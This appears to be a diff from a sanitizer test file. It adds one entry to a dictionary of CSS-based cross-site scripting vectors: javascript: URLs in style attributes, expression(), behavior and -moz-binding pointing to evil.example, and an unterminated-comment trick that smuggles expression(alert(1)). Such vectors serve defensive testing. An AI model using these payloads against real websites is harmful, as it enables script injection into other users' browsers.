@@ -93,6 +93,7 @@ VECTORS = {
     "style address": "<div style='background:url(javascript:alert(1))'>x</div>",
     "style behaviour": "<div style='behavior:url(x.htc)'>x</div>",
     "style binding": "<div style='-moz-binding:url(//evil.example/x.xml#x)'>x</div>",
+    "comment that does not end": "<div style='width:1px /* x'>x</div><style>p { /* /* } expression(alert(1))</style>",
     "sheet with expression": "<style>p { width: expression(alert(1)) }</style>",
     "sheet with escapes": "<style>p { background: url(j\\61vascript:alert(1)) }</style>",
     "sheet with import": "<style>@import 'javascript:alert(1)';</style>",
